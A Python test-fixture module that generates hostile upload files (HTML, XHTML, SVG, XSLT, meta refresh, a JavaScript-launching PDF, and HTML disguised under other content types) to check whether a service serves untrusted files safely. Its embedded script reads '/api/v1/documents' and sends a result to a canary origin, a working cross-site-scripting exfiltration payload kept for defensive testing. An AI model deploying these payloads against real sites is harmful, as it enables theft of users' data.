"""Files that act when a browser is careless: each tries to change the title, to call out, and to read the API."""

import base64
from dataclasses import dataclass

RAN = "ran"
"""The title of a page whose script ran."""


@dataclass(frozen=True, slots=True)
class HostileFile:
    """`proof`: how a path of the canary begins that a browser calls which is told nothing better; None: browsers show
    or save the file by themselves."""

    name: str
    declared: str
    content: bytes
    proof: str | None = None


def hostile_files(canary: str, *, marker: str) -> list[HostileFile]:
    """Those that call `canary`, an origin, with paths that begin with `marker`."""
    script = (
        f"document.title = '{RAN}';"
        f"fetch('{canary}/{marker}/fetched', {{mode: 'no-cors'}});"
        f"fetch('/api/v1/documents').then(answer => answer.text()).then("
        f"text => fetch('{canary}/{marker}/stolen?' + text.length, {{mode: 'no-cors'}}));"
    )
    calls = (
        f'<img src="{canary}/{marker}/image" onerror="{script}"/>'
        f'<link rel="stylesheet" href="{canary}/{marker}/style"/>'
        f'<iframe src="{canary}/{marker}/frame"></iframe>'
    )
    html = f"<!doctype html><html><head><title>quiet</title></head><body>{calls}<script>{script}</script></body></html>"
    xhtml = '<html xmlns="http://www.w3.org/1999/xhtml">' + html.split("<html>")[1]
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><title>quiet</title><script><![CDATA[{script}]]></script></svg>'
    sheet = (
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">'
        f"<html><body><script>{script}</script></body></html></xsl:template></xsl:stylesheet>"
    )
    data = base64.b64encode(sheet.encode()).decode()
    xslt = f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:text/xsl;base64,{data}"?><a/>'
    refreshing = f'<meta http-equiv="refresh" content="0; url={canary}/{marker}/refreshed">'
    return [
        HostileFile("page.html", "text/html", html.encode(), "stolen"),
        HostileFile("page.xhtml", "application/xhtml+xml", xhtml.encode(), "stolen"),
        HostileFile("drawing.svg", "image/svg+xml", svg.encode(), "stolen"),
        HostileFile("refresh.html", "text/html; charset=utf-8", refreshing.encode(), "refreshed"),
        HostileFile("sheet.xml", "text/xml", xslt.encode()),  # browsers are giving XSLT up
        HostileFile("script.js", "text/javascript", script.encode()),  # shown as text when it is opened
        HostileFile("form.pdf", "application/pdf", _pdf(canary, marker)),  # viewers ask, or are not there
        HostileFile("text.txt", "text/plain", html.encode()),
        HostileFile("picture.png", "image/png", html.encode()),
        HostileFile("unknown", "application/x-unknown", html.encode()),
        HostileFile("bytes.bin", "application/octet-stream", html.encode()),
        HostileFile("twice.html", 'text/plain; x="text/html"', html.encode()),
    ]


def _pdf(canary: str, marker: str) -> bytes:
    action = f"<< /S /JavaScript /JS (app.launchURL\\('{canary}/{marker}/launched'\\);) >>"
    return (
        f"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction {action} >>\nendobj\n"
        "2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
        "3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] >>\nendobj\n"
        "trailer\n<< /Root 1 0 R >>\n%%EOF\n"
    ).encode()
